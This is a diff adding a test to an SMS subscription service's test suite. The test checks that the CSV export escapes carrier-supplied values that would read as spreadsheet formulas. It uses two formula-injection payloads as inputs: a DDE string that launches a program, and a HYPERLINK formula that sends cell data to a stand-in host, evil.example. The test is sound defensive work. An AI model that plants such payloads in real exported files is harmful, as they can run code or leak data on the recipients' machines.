@@ -320,6 +320,23 @@ describe('subscribe and unsubscribe', () => {
     expect(lines[1]).toMatch(new RegExp(`^\\${CUSTOMER},ALPHA,unsubscribed,\\${a.number},`));
   });
 
+  it('exports a carrier\'s number or message id that reads as a formula as text, E.164 numbers as they are', async () => {
+    const ctx = s.h.context();
+    const a = await ctx.account({ senders: ['BRAND'], standardKeywords: false });
+    await a.config({ keyword: 'STOP', unsubscribe: { scope: 'all' } });
+    const id = `=HYPERLINK("http://evil.example/?"&A3,"open")${randomId('')}`;
+    const bad = await ctx.ingest({ id: randomId('m'), source: "=cmd|'/Ccalc'!A0", recipient: a.number, message: 'stop' });
+    const viaId = await ctx.ingest({ id, source: '+15551230000', recipient: a.number, message: 'stop' });
+    for (const res of [bad, viaId]) await ctx.withWorker(() => ctx.result(res.body.workflow_id));
+    const csv = await ctx.request('GET', `/v1/${a.sid}/subscriptions?format=csv`, undefined, { 'api-key': a.apiKey });
+    const lines = String(csv.body).trim().split('\r\n').slice(1);
+    expect(lines).toHaveLength(2);
+    expect(lines).toContainEqual(expect.stringMatching(/^'=cmd\|'\/Ccalc'!A0,\*,unsubscribed,/));
+    const row = lines.find((l) => l.startsWith('+15551230000,'));
+    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?""&A3,""open"")`);
+    for (const line of lines) expect(line).not.toMatch(/(^|,)[=@]/);
+  });
+
   it('treats national-format numbers from the carrier as the E.164 numbers they are', async () => {
     const ctx = s.h.context();
     const a = await ctx.account({ senders: ['BRAND'], standardKeywords: false });
